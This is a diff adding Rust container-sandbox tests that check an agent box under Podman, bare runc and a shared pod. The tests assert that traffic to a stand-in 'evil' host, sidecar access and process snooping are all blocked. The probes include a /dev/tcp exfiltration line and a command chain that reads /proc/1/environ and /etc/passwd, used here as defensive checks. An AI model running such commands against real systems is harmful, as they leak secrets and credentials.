@@ -1,0 +1,234 @@
+//! The box under the engines beside Docker: Podman, runc alone, and what a pod does to it.
+
+#[cfg(test)]
+#[path = "support/rig.rs"]
+mod rig;
+
+#[cfg(test)]
+mod engines {
+    use std::io::Write;
+    use std::path::{Path, PathBuf};
+
+    use serde_json::{Value, json};
+
+    use crate::rig::{
+        AGENT, BoxOptions, Done, OAUTH_TOKEN, PATIENCE, ROOT, Rig, RunningBox, host, image, must, run,
+    };
+
+    /// The promise in short: what is allowed works, nothing else leaves, and everything is proven.
+    fn keeps_the_promise(rig: &Rig, guest: &RunningBox) {
+        let status = guest.status();
+        let protections = status["protections"].as_array().unwrap();
+        assert_eq!(protections.len(), 7, "{status}");
+        for protection in protections {
+            assert_eq!(protection["held"], Value::Bool(true), "{protection}");
+        }
+        assert!(guest.exec_agent("curl -sS -m 10 http://ok.test/").out.contains("token-"));
+        let mark = rig.world.sync();
+        for user in [AGENT, ROOT] {
+            assert!(!guest.client(user, &["tcp", &host("evil"), "443", "leak"]).ok());
+            assert!(!guest.client(user, &["udp", &host("evil"), "443", "leak"]).ok());
+            assert_eq!(guest.client(user, &["dns", "9.9.9.53", "leak.evil.test"]).out, "NXDOMAIN\n");
+        }
+        let session = guest.client_as_session(&["tcp", &host("evil"), "443", "leak"]);
+        assert!(!session.ok(), "{session:?}");
+        let out = rig.world.packets_since(mark);
+        assert!(out.iter().all(|packet| packet["dst"] != host("evil")), "{out:?}");
+        assert!(!rig.world.saw("leak"));
+    }
+
+    fn podman_is_here() -> bool {
+        let here = run("podman", &["--version"]).ok();
+        assert!(here || std::env::var_os("CI").is_none(), "CI must run the tests with podman");
+        if !here {
+            std::io::stderr().write_all(b"SKIPPED: needs podman\n").unwrap();
+        }
+        here
+    }
+
+    #[test]
+    fn podman_gives_the_same_box() {
+        let Some(rig) = Rig::new().filter(|_| podman_is_here()) else { return };
+        let evil = ["tcp", &host("evil"), "443", "before"];
+        assert!(rig.outside(&evil).ok());
+        let guest = rig.boot(&BoxOptions::new().podman());
+        keeps_the_promise(&rig, &guest);
+        guest.attach_and_leave("/");
+        assert_eq!(guest.stop(), 143);
+    }
+
+    /// The least privileges that the design asks for, as README prints them.
+    #[test]
+    fn podman_gives_the_same_box_read_only_and_without_sys_admin() {
+        let Some(rig) = Rig::new().filter(|_| podman_is_here()) else { return };
+        let guest = rig.boot(&least(BoxOptions::new().podman()));
+        keeps_the_promise(&rig, &guest);
+        assert_eq!(guest.stop(), 143);
+    }
+
+    /// README's line of least privilege.
+    fn least(options: BoxOptions) -> BoxOptions {
+        let capabilities =
+            ["NET_ADMIN", "SETUID", "SETGID", "SETPCAP", "KILL", "CHOWN", "FOWNER", "DAC_OVERRIDE"];
+        let mounts = ["/run", "/tmp:exec,mode=1777", "/workspace:exec", "/home/claude:exec"];
+        let mut options = options.without_cap("SYS_ADMIN").docker(&["--cap-drop", "ALL", "--read-only"]);
+        for capability in capabilities {
+            options = options.docker(&["--cap-add", capability]);
+        }
+        for mount in mounts {
+            options = options.docker(&["--tmpfs", mount]);
+        }
+        options.docker(&["--security-opt", "no-new-privileges"])
+    }
+
+    /// A box that runc starts by a configuration of its own, as containerd does it: no engine looks after it.
+    struct Bundle {
+        id: String,
+        dir: PathBuf,
+        log: PathBuf,
+    }
+
+    impl Bundle {
+        fn start(rig: &Rig) -> Self {
+            let (id, dir) = (format!("{}-runc", rig.name), rig.dir.join("bundle"));
+            for part in ["rootfs", "upper", "work"] {
+                std::fs::create_dir_all(dir.join(part)).unwrap();
+            }
+            let layer = |which: &str| {
+                let format = format!("{{{{ .GraphDriver.Data.{which} }}}}");
+                must("docker", &["image", "inspect", "-f", &format, &image()]).trim().to_owned()
+            };
+            let at = |part: &str| dir.join(part).display().to_string();
+            let (lower, upper, work) =
+                (format!("{}:{}", layer("UpperDir"), layer("LowerDir")), at("upper"), at("work"));
+            let options = format!("lowerdir={lower},upperdir={upper},workdir={work}");
+            rig.at_end(&["umount", "-l", &at("rootfs")]);
+            must("mount", &["-t", "overlay", "overlay", "-o", &options, &at("rootfs")]);
+            std::fs::write(dir.join("rootfs/etc/resolv.conf"), "nameserver 9.9.9.53\n").unwrap();
+            let network = format!("/proc/{}/ns/net", rig.pause_pid);
+            let config = serde_json::to_vec_pretty(&config(&network)).unwrap();
+            std::fs::write(dir.join("config.json"), config).unwrap();
+            let log = dir.join("log");
+            rig.at_end(&["runc", "delete", "--force", &id]);
+            let bundle = Self { id, dir, log };
+            let script = "exec runc run --detach --bundle \"$0\" \"$1\" >\"$2\" 2>&1";
+            let (place, log) = (bundle.dir.display().to_string(), bundle.log.display().to_string());
+            let started = run("sh", &["-c", script, &place, &bundle.id, &log]);
+            assert!(started.ok(), "{}", bundle.said());
+            bundle
+        }
+
+        fn said(&self) -> String {
+            std::fs::read_to_string(&self.log).unwrap()
+        }
+
+        fn await_line(&self, line: &str) {
+            let (limit, log) = (PATIENCE.as_secs().to_string(), self.log.display().to_string());
+            let follow = "tail -n +1 -F \"$0\" | grep -q -m 1 -F -- \"$1\"";
+            let found = run("timeout", &[&limit, "bash", "-c", follow, &log, line]);
+            assert!(found.ok(), "no {line:?}: {}", self.said());
+        }
+
+        fn exec(&self, user: &str, command: &str) -> Done {
+            run("runc", &["exec", "--user", user, &self.id, "/bin/bash", "-c", command])
+        }
+    }
+
+    /// The least that the box needs: capabilities, file systems, namespaces; the root file system is read-only.
+    fn config(network: &str) -> Value {
+        let names = ["NET_ADMIN", "SETUID", "SETGID", "SETPCAP", "KILL", "CHOWN", "FOWNER", "DAC_OVERRIDE"];
+        let capabilities: Vec<String> = names.iter().map(|name| format!("CAP_{name}")).collect();
+        let mount = |to: &str, kind: &str, options: &[&str]| json!({ "destination": to, "type": kind, "source": kind, "options": options });
+        let place = |to: &str, mode: &str| mount(to, "tmpfs", &["nosuid", "nodev", mode]);
+        let env = [
+            "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin",
+            "LANG=C.UTF-8",
+            &format!("CLAUDE_CODE_OAUTH_TOKEN={OAUTH_TOKEN}"),
+            "INNKEEPER_NETWORK_ALLOW=ok.test:80",
+            "INNKEEPER_SESSION_COMMAND=/bin/sleep\ninfinity",
+        ];
+        json!({
+            "ociVersion": "1.0.2",
+            "process": {
+                "terminal": false, "user": { "uid": 0, "gid": 0 }, "cwd": "/", "env": env,
+                "args": ["/usr/local/bin/innkeeper", "init"], "noNewPrivileges": true,
+                "capabilities": {
+                    "bounding": capabilities, "effective": capabilities, "permitted": capabilities
+                },
+            },
+            "root": { "path": "rootfs", "readonly": true },
+            "hostname": "box",
+            "mounts": [
+                mount("/proc", "proc", &[]),
+                mount("/dev", "tmpfs", &["nosuid", "mode=755"]),
+                mount("/dev/pts", "devpts", &["nosuid", "noexec", "newinstance", "ptmxmode=0666", "mode=0620"]),
+                mount("/dev/shm", "tmpfs", &["nosuid", "noexec", "nodev", "mode=1777"]),
+                mount("/sys", "sysfs", &["nosuid", "noexec", "nodev", "ro"]),
+                place("/run", "mode=755"), place("/tmp", "mode=1777"), place("/workspace", "mode=755"),
+                place("/home/claude", "mode=755"),
+            ],
+            "linux": {
+                "namespaces": [
+                    { "type": "pid" }, { "type": "ipc" }, { "type": "uts" }, { "type": "mount" },
+                    { "type": "network", "path": network },
+                ],
+                "readonlyPaths": ["/proc/sys", "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sysrq-trigger"],
+            },
+        })
+    }
+
+    #[test]
+    fn runc_alone_gives_the_same_box() {
+        let Some(rig) = Rig::new() else { return };
+        let evil = ["tcp", &host("evil"), "443", "before"];
+        assert!(rig.outside(&evil).ok());
+        let bundle = Bundle::start(&rig);
+        bundle.await_line("boot: ready after");
+        assert!(bundle.exec("1000", "curl -sS -m 10 http://ok.test/").out.contains("token-"));
+        let mark = rig.world.sync();
+        for user in ["1000", "0"] {
+            let knock = format!("exec 3<>/dev/tcp/{}/443 && echo leak >&3", host("evil"));
+            assert!(!bundle.exec(user, &knock).ok());
+        }
+        assert!(rig.world.packets_since(mark).iter().all(|packet| packet["dst"] != host("evil")));
+        let status = bundle.exec("0", "innkeeper status --json").expect("status");
+        let status: Value = serde_json::from_str(&status).unwrap();
+        let held = status["protections"].as_array().unwrap();
+        assert!(held.len() == 7 && held.iter().all(|protection| protection["held"] == true), "{status}");
+        assert!(!Path::new(&bundle.dir.join("upper/workspace")).join("x").exists());
+        must("runc", &["kill", &bundle.id, "TERM"]);
+        bundle.await_line("(exit status 143)");
+    }
+
+    /// A pod: one network and one pid namespace for all, and the box is not pid 1 of it.
+    #[test]
+    fn t201_a_pod_with_shared_network_and_processes_keeps_the_sidecar_from_the_agent() {
+        let Some(rig) = Rig::new() else { return };
+        // The pause container plays the pod: its processes are the sidecar's.
+        let serve = "import socket, sys, threading\ns = socket.create_server(('127.0.0.1', 15000))\n\
+                     def answer():\n while True:\n  c, _ = s.accept(); c.sendall(b'sidecar'); c.close()\n\
+                     threading.Thread(target=answer, daemon=True).start()\nprint('up', flush=True)\nsys.stdin.read()";
+        let mut sidecar = rig.spawn_inside(&["python3", "-c", serve]);
+        assert_eq!(sidecar.hear(), "up");
+        let read = "curl -sS -m 5 --http0.9 http://127.0.0.1:15000/";
+        assert_eq!(rig.in_pause(read).out, "sidecar", "open before there is a box");
+        let pid = format!("container:{}", rig.pause);
+        let guest = rig.boot(&BoxOptions::new().docker(&["--pid", &pid]).args(&["init"]));
+        keeps_the_promise(&rig, &guest);
+        assert_ne!(guest.exec_agent("cat /proc/1/comm").out, "innkeeper\n");
+        for done in [guest.exec_agent(read), guest.as_session(read), guest.exec_root(read)] {
+            assert!(!done.ok() && !done.out.contains("sidecar"), "{done:?}");
+        }
+        assert!(guest.status()["warnings"].to_string().contains("15000"));
+        // Processes of others are no business of the agent's.
+        let others = guest.as_session("kill -9 1 || cat /proc/1/environ || cat /proc/1/root/etc/passwd");
+        assert!(!others.ok() && others.out.is_empty(), "{others:?}");
+        guest.stop();
+        assert!(rig.in_pause("true").ok(), "the pod lives on");
+        let left = rig.in_pause("ps -eo user,comm").out;
+        assert!(!left.contains("claude") && !left.contains("innkeeper"), "{left}");
+        // What the box leaves behind is closed.
+        assert!(!rig.outside(&["tcp", &host("evil"), "443", "leak"]).ok());
+        sidecar.end();
+    }
+}
